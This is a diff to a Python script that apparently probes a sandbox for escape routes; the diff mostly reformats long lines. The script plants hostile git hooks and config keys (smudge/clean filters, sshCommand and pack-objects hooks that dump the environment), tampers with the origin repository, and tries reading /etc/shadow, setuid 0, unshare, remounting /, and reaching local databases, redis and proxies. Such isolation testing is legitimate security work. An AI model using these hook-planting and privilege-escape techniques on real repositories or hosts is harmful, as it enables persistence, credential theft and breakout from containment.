@@ -21,8 +21,19 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-HOOKS = ("post-checkout", "reference-transaction", "post-merge", "pre-auto-gc", "post-rewrite", "pre-push",
-         "post-index-change", "fsmonitor-watchman", "pre-commit", "post-commit", "push-to-checkout")  # fmt: skip
+HOOKS = (
+    "post-checkout",
+    "reference-transaction",
+    "post-merge",
+    "pre-auto-gc",
+    "post-rewrite",
+    "pre-push",
+    "post-index-change",
+    "fsmonitor-watchman",
+    "pre-commit",
+    "post-commit",
+    "push-to-checkout",
+)
 IDENTITY = ["-c", "user.name=attacker", "-c", "user.email=attacker@example.invalid"]
 
 
@@ -62,26 +73,35 @@ def plant_git(config: dict[str, Any]) -> dict[str, Any]:
     common = Path(git("rev-parse", "--path-format=absolute", "--git-common-dir"))
     done["common_dir"] = str(common)
     for name in HOOKS:
-        done[f"hook {name}"] = attempt(lambda n=name: write_executable(common / "hooks" / n, payload(markers, n)))
+        done[f"hook {name}"] = attempt(
+            lambda n=name: write_executable(common / "hooks" / n, payload(markers, n))
+        )
     hooks_path = Path.cwd() / ".evil-hooks"
     for name in HOOKS:
         write_executable(hooks_path / name, payload(markers, f"hookspath-{name}"))
     monitor = write_executable(Path.cwd() / ".evil-fsmonitor", payload(markers, "fsmonitor"))
-    keys = {"core.hooksPath": str(hooks_path), "core.fsmonitor": monitor,
-            "filter.evil.smudge": f"sh -c 'env > {markers}/smudge; cat'",
-            "filter.evil.clean": f"sh -c 'env > {markers}/clean; cat'",
-            "uploadpack.packObjectsHook": f"sh -c 'env > {markers}/pack-objects'",
-            "core.sshCommand": f"sh -c 'env > {markers}/ssh'",
-            "core.alternateRefsCommand": f"sh -c 'env > {markers}/alternate-refs'",
-            "protocol.ext.allow": "always"}  # fmt: skip
+    keys = {
+        "core.hooksPath": str(hooks_path),
+        "core.fsmonitor": monitor,
+        "filter.evil.smudge": f"sh -c 'env > {markers}/smudge; cat'",
+        "filter.evil.clean": f"sh -c 'env > {markers}/clean; cat'",
+        "uploadpack.packObjectsHook": f"sh -c 'env > {markers}/pack-objects'",
+        "core.sshCommand": f"sh -c 'env > {markers}/ssh'",
+        "core.alternateRefsCommand": f"sh -c 'env > {markers}/alternate-refs'",
+        "protocol.ext.allow": "always",
+    }
     for key, value in keys.items():
         done[f"config {key}"] = attempt(lambda k=key, v=value: git("config", k, v))
     Path(".gitattributes").write_text("* filter=evil\n")
     Path("evil.txt").write_text("smudge me\n")
     done["commit"] = attempt(lambda: (git("add", "-A"), git("commit", "-q", "-m", "attacker"))[1])
     origin = Path(config["origin_git_dir"])
-    done["origin hook"] = attempt(lambda: write_executable(origin / "hooks" / "post-checkout", payload(markers, "o")))
-    done["origin config"] = attempt(lambda: (origin / "config").open("a").write("[core]\n\thooksPath = /tmp\n"))
+    done["origin hook"] = attempt(
+        lambda: write_executable(origin / "hooks" / "post-checkout", payload(markers, "o"))
+    )
+    done["origin config"] = attempt(
+        lambda: (origin / "config").open("a").write("[core]\n\thooksPath = /tmp\n")
+    )
     return done
 
 
@@ -98,7 +118,12 @@ def write_outside(path: str) -> str:
 
 def try_privilege(config: dict[str, Any]) -> dict[str, Any]:
     """Item 2: who it is, what it may do, and every way out of the read-only, emptied filesystem."""
-    done: dict[str, Any] = {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups()}
+    done: dict[str, Any] = {
+        "uid": os.getuid(),
+        "euid": os.geteuid(),
+        "gid": os.getgid(),
+        "groups": os.getgroups(),
+    }
     done["status"] = status()
     done["env"] = sorted(os.environ)
     done["remount"] = attempt(lambda: run("mount", "-o", "remount,rw,bind", "/"))
@@ -109,7 +134,9 @@ def try_privilege(config: dict[str, Any]) -> dict[str, Any]:
     done["read /etc/shadow"] = attempt(lambda: Path("/etc/shadow").read_text()[:20])
     done["setuid 0"] = attempt(lambda: os.setuid(0))
     done["unshare -Ur"] = attempt(lambda: run("unshare", "-U", "-r", "id"))
-    done["unshare -Urm"] = attempt(lambda: run("unshare", "-U", "-r", "-m", "sh", "-c", "mount -t tmpfs none /mnt"))
+    done["unshare -Urm"] = attempt(
+        lambda: run("unshare", "-U", "-r", "-m", "sh", "-c", "mount -t tmpfs none /mnt")
+    )
     done["kill worker"] = attempt(lambda: os.kill(config["worker_pid"], 0))
     done["state"] = attempt(lambda: sorted(os.listdir(config["state"])))
     done["root home"] = attempt(lambda: sorted(os.listdir("/root")))
@@ -153,11 +180,15 @@ def try_network(config: dict[str, Any]) -> dict[str, Any]:
     for path in config["unix"]:
         done[f"unix {path}"] = attempt(lambda p=path: unix(p))
     done["unix abstract"] = attempt(lambda: unix("\0ouro-attacker"))
-    done["psql"] = attempt(lambda: run("psql", "-h", "127.0.0.1", "-U", "postgres", "-c", "select 1", timeout=15))
+    done["psql"] = attempt(
+        lambda: run("psql", "-h", "127.0.0.1", "-U", "postgres", "-c", "select 1", timeout=15)
+    )
     done["dns"] = attempt(lambda: socket.getaddrinfo("pypi.org", 443))
     if done["proxy"]:
         for name, target in config["via_proxy"].items():
-            done[f"CONNECT {name}"] = attempt(lambda t=target: through_proxy(f"CONNECT {t} HTTP/1.1\r\nHost: {t}"))
+            done[f"CONNECT {name}"] = attempt(
+                lambda t=target: through_proxy(f"CONNECT {t} HTTP/1.1\r\nHost: {t}")
+            )
         done["GET redis"] = attempt(lambda: fetch(config["redis_url"]))
         done["model"] = attempt(lambda: fetch(config["model_url"]))
     return done
